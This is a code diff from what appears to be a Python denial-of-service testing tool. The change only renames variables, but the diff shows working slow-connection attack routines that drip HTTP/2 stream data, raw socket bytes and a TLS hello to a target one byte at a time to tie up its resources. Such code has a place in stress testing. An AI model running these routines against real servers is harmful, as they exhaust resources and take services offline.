@@ -177,11 +177,11 @@ def half_closed(it: Attack) -> None:
     for peer in it.peers():
         try:
             streams = [peer.call(headers(path), None) for path in (APPLY, STREAM) * 16]
-            for octet in cycle(message(bytes(200))):
+            for byte in cycle(message(bytes(200))):
                 if not it.going:
                     break
                 for stream in streams:
-                    peer.send(raw(DATA, 0, stream, bytes((octet,))))
+                    peer.send(raw(DATA, 0, stream, bytes((byte,))))
                     it.done += 1
                 peer.drop()
                 threading.Event().wait(0.05)
@@ -394,24 +394,24 @@ def deaf(it: Attack) -> None:
             it.ended += 1
 
 
-def _drip(it: Attack, made: socket.socket, octets: bytes, seconds: float) -> None:
+def _drip(it: Attack, made: socket.socket, data: bytes, seconds: float) -> None:
     """A byte at a time."""
     try:
         with made:
-            for octet in octets:
+            for byte in data:
                 if not it.going:
                     return
-                made.sendall(bytes((octet,)))
+                made.sendall(bytes((byte,)))
                 it.done += 1
                 threading.Event().wait(seconds)
     except OSError:
         it.ended += 1
 
 
-def _slowly(it: Attack, octets: bytes, connect: Callable[[Target], socket.socket]) -> None:
+def _slowly(it: Attack, data: bytes, connect: Callable[[Target], socket.socket]) -> None:
     while it.going:
         try:
-            _drip(it, connect(it.target), octets, 0.1)
+            _drip(it, connect(it.target), data, 0.1)
         except Closed:
             it.ended += 1
             threading.Event().wait(0.02)
@@ -444,7 +444,7 @@ def _hello(target: Target) -> bytes:
 def slow_hello(it: Attack) -> None:
     """A TLS hello a byte at a time, each in a record of its own."""
     hello = _hello(it.target)
-    body = b"".join(hello[:3] + b"\x00\x01" + bytes((octet,)) for octet in hello[5:])
+    body = b"".join(hello[:3] + b"\x00\x01" + bytes((byte,)) for byte in hello[5:])
     _slowly(it, body, Target.reach)
 
 
